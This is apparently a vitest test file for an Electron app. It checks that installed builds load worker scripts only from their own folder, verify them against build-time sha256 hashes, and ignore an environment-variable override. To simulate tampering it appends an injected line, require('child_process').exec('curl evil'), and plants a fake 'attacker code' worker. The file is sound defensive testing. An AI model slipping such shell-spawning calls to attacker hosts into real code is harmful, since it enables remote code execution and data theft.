/**
 * Workers only from the installation: an installed app (its bundle inside app.asar) ignores
 * ANA_WORKERS_DIR, loads workers only from its own unpacked folder, and refuses one whose sha256
 * differs from the list written at build time, or when the list is missing. In a development
 * checkout the variable is honoured.
 */
import { describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { builtWorkerPath } from '../../../electron/core/app-paths';
import { workerEntryPath } from '../../../electron/core/worker-entry';
import { projectRoot } from '../../../electron/core/paths';

const WORKER = 'export {};\n// the real inference worker\n';
const sha = (text: string) => createHash('sha256').update(text).digest('hex');

/** A fake installation: resources/app.asar/dist/{main/main.js, workers.sha256.json} and the unpacked workers. */
function installation(options: { hashes?: boolean } = {}) {
  const root = mkdtempSync(join(tmpdir(), 'ana-install-'));
  const asar = join(root, 'resources', 'app.asar', 'dist');
  const unpacked = join(root, 'resources', 'app.asar.unpacked', 'dist', 'workers');
  mkdirSync(join(asar, 'main'), { recursive: true });
  mkdirSync(unpacked, { recursive: true });
  writeFileSync(join(asar, 'main', 'main.js'), '');
  writeFileSync(join(unpacked, 'inference.worker.js'), WORKER);
  if (options.hashes !== false) writeFileSync(join(asar, 'workers.sha256.json'), JSON.stringify({ 'inference.worker.js': sha(WORKER) }));
  const evil = join(root, 'evil');
  mkdirSync(evil);
  writeFileSync(join(evil, 'inference.worker.js'), 'process.exit(66) // attacker code');
  return { root, callerUrl: pathToFileURL(join(asar, 'main', 'main.js')).href, worker: join(unpacked, 'inference.worker.js'), evil };
}

describe('workers in an installed app', () => {
  it('ignore a pre-set ANA_WORKERS_DIR and load the installation\'s own worker', () => {
    const inst = installation();
    try {
      expect(builtWorkerPath('inference', inst.callerUrl, { ANA_WORKERS_DIR: inst.evil })).toBe(inst.worker);
      expect(workerEntryPath('inference', { callerUrl: inst.callerUrl, env: { ANA_WORKERS_DIR: inst.evil } })).toBe(inst.worker);
    } finally {
      rmSync(inst.root, { recursive: true, force: true });
    }
  });

  it('refuse a worker whose bytes differ from the build\'s sha256', () => {
    const inst = installation();
    try {
      appendFileSync(inst.worker, 'require("child_process").exec("curl evil")\n');
      expect(() => workerEntryPath('inference', { callerUrl: inst.callerUrl, env: {} })).toThrow(
        /inference\.worker\.js: does not match the sha256 recorded at build time, so it is not started \(the installation was altered; reinstall ANA Workstation\)$/,
      );
    } finally {
      rmSync(inst.root, { recursive: true, force: true });
    }
  });

  it('refuse to start any worker without the hash list, and never fall back to another file', () => {
    const inst = installation({ hashes: false });
    try {
      expect(() => workerEntryPath('inference', { callerUrl: inst.callerUrl, env: {} })).toThrow(/workers\.sha256\.json: the build's worker hash list is missing or unreadable, so inference\.worker\.js is not started/);
      expect(() => workerEntryPath('finetune', { callerUrl: inst.callerUrl, env: { ANA_WORKERS_DIR: inst.evil } })).toThrow(/worker finetune\.worker\.js is missing from the installation/);
    } finally {
      rmSync(inst.root, { recursive: true, force: true });
    }
  });
});

describe('workers in development', () => {
  it('ANA_WORKERS_DIR is honoured; a build\'s own workers are checked against its list', () => {
    const root = mkdtempSync(join(tmpdir(), 'ana-dev-'));
    try {
      mkdirSync(join(root, 'dist', 'main'), { recursive: true });
      mkdirSync(join(root, 'dist', 'workers'));
      mkdirSync(join(root, 'other'));
      writeFileSync(join(root, 'dist', 'workers', 'inference.worker.js'), WORKER);
      writeFileSync(join(root, 'other', 'inference.worker.js'), 'export {}; // a developer\'s experiment');
      writeFileSync(join(root, 'dist', 'workers.sha256.json'), JSON.stringify({ 'inference.worker.js': sha(WORKER) }));
      const callerUrl = pathToFileURL(join(root, 'dist', 'main', 'main.js')).href;
      expect(workerEntryPath('inference', { callerUrl, env: { ANA_WORKERS_DIR: join(root, 'other') } })).toBe(join(root, 'other', 'inference.worker.js'));
      expect(workerEntryPath('inference', { callerUrl, env: {} })).toBe(join(root, 'dist', 'workers', 'inference.worker.js'));
      appendFileSync(join(root, 'dist', 'workers', 'inference.worker.js'), '// stale or altered\n');
      expect(() => workerEntryPath('inference', { callerUrl, env: {} })).toThrow(/does not match the sha256 recorded at build time/);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('the Electron main process', () => {
  it('does not let a pre-set ANA_WORKERS_DIR win in a packaged app (no ??=), and lets core find the verified worker', () => {
    const main = readFileSync(join(projectRoot(), 'electron', 'main', 'main.ts'), 'utf8');
    expect(main).not.toMatch(/ANA_WORKERS_DIR\s*\?\?=/);
    expect(main).toMatch(/if \(app\.isPackaged\) delete process\.env\.ANA_WORKERS_DIR;/);
    expect(main).not.toMatch(/workerPath:/);
  });
});
